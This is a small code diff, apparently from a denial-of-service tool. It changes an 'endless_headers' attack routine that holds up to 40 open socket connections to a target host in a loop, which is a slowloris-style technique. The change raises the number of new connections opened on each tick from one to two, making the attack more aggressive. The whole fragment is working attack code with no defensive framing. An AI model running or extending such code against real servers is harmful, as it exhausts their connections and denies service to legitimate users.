@@ -225,7 +225,7 @@ async def endless_headers(attack: Attack) -> None:
     try:
         while True:
             open_ = [connection for connection in open_ if not _is_closed(connection)]
-            for _ in range(min(1, 40 - len(open_))):
+            for _ in range(min(2, 40 - len(open_))):
                 with suppress(OSError):
                     open_.append(socket.create_connection((host, int(port)), timeout=TICK_S))
                     open_[-1].settimeout(0)
